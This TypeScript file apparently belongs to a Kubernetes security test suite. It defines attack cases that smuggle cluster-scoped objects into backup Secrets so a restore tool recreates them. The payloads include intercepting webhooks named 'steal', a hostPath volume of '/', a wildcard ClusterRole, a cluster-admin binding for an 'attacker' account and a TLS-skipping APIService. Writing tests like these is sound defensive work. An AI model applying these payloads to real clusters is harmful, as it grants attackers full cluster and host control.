import { revertAll } from './acts.ts';
import type { Attack, Rule, Scene } from './attack.ts';
import { type Planted, resourceBackup } from './planted.ts';

const secrets: Rule = { apiGroups: [''], resources: ['secrets'], verbs: ['create'] };

/** A backup Secret that holds an object which lives in no namespace, with a namespace written into it. */
function fromBackup(what: string, resource: string, object: (scene: Scene) => Planted): Attack {
  const name = (scene: Scene) => String(object(scene).metadata.name);
  return {
    name: `create ${what} out of a backup Secret`,
    byRecord: true,
    rights: { here: [secrets] },
    plant: scene => scene.plant(resourceBackup(object(scene))),
    act: revertAll,
    gained: async scene => (await scene.look(resource, name(scene))) && `${what} was created`,
    tidy: async scene =>
      void (await scene.admin(['delete', resource, name(scene), '--ignore-not-found', '--wait=false'])),
  };
}

const meta = ({ id }: Scene, name = id) => ({ name, namespace: id });
const webhook = (scene: Scene, kind: string): Planted => ({
  apiVersion: 'admissionregistration.k8s.io/v1',
  kind,
  metadata: meta(scene),
  webhooks: [
    {
      name: 'steal.example.com',
      clientConfig: { url: 'https://127.0.0.1:1/steal' },
      rules: [{ apiGroups: [''], apiVersions: ['v1'], operations: ['CREATE'], resources: ['bindings'] }],
      sideEffects: 'None',
      failurePolicy: 'Ignore',
      admissionReviewVersions: ['v1'],
    },
  ],
});
const RBAC = 'rbac.authorization.k8s.io';
const everything = [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }];

export const attacks: Attack[] = [
  fromBackup('a mutating webhook configuration', 'mutatingwebhookconfigurations', scene =>
    webhook(scene, 'MutatingWebhookConfiguration'),
  ),
  fromBackup('a validating webhook configuration', 'validatingwebhookconfigurations', scene =>
    webhook(scene, 'ValidatingWebhookConfiguration'),
  ),
  fromBackup('a namespace', 'namespaces', scene => ({
    apiVersion: 'v1',
    kind: 'Namespace',
    metadata: {
      ...meta(scene, `${scene.id}-more`),
      labels: { 'pod-security.kubernetes.io/enforce': 'privileged' },
    },
  })),
  fromBackup('a persistent volume of the host', 'persistentvolumes', scene => ({
    apiVersion: 'v1',
    kind: 'PersistentVolume',
    metadata: meta(scene),
    spec: {
      capacity: { storage: '1Gi' },
      accessModes: ['ReadWriteOnce'],
      storageClassName: 'none',
      hostPath: { path: '/' },
    },
  })),
  fromBackup('a cluster role of everything', 'clusterroles', scene => ({
    apiVersion: `${RBAC}/v1`,
    kind: 'ClusterRole',
    metadata: meta(scene, `${scene.id}-all`),
    rules: everything,
  })),
  fromBackup('a binding to cluster-admin', 'clusterrolebindings', scene => ({
    apiVersion: `${RBAC}/v1`,
    kind: 'ClusterRoleBinding',
    metadata: meta(scene, `${scene.id}-all`),
    roleRef: { apiGroup: RBAC, kind: 'ClusterRole', name: 'cluster-admin' },
    subjects: [{ kind: 'ServiceAccount', name: 'attacker', namespace: scene.id }],
  })),
  fromBackup('a storage class', 'storageclasses', scene => ({
    apiVersion: 'storage.k8s.io/v1',
    kind: 'StorageClass',
    metadata: { ...meta(scene), annotations: { 'storageclass.kubernetes.io/is-default-class': 'true' } },
    provisioner: 'example.com/taken',
  })),
  fromBackup('a priority class', 'priorityclasses', scene => ({
    apiVersion: 'scheduling.k8s.io/v1',
    kind: 'PriorityClass',
    metadata: meta(scene),
    value: 1_000_000,
    description: 'before everybody else',
  })),
  fromBackup('a node', 'nodes', scene => ({ apiVersion: 'v1', kind: 'Node', metadata: meta(scene), spec: {} })),
  fromBackup('an API service', 'apiservices', scene => ({
    apiVersion: 'apiregistration.k8s.io/v1',
    kind: 'APIService',
    metadata: meta(scene, `v1.${scene.id}.example.com`),
    spec: {
      group: `${scene.id}.example.com`,
      version: 'v1',
      groupPriorityMinimum: 100,
      versionPriority: 10,
      insecureSkipTLSVerify: true,
      service: { name: 'taken', namespace: scene.id },
    },
  })),
  fromBackup('a definition of resources', 'customresourcedefinitions', scene => ({
    apiVersion: 'apiextensions.k8s.io/v1',
    kind: 'CustomResourceDefinition',
    metadata: meta(scene, `takens.${scene.id}.example.com`),
    spec: {
      group: `${scene.id}.example.com`,
      scope: 'Cluster',
      names: { plural: 'takens', singular: 'taken', kind: 'Taken', listKind: 'TakenList' },
      versions: [{ name: 'v1', served: true, storage: true, schema: { openAPIV3Schema: { type: 'object' } } }],
    },
  })),
];
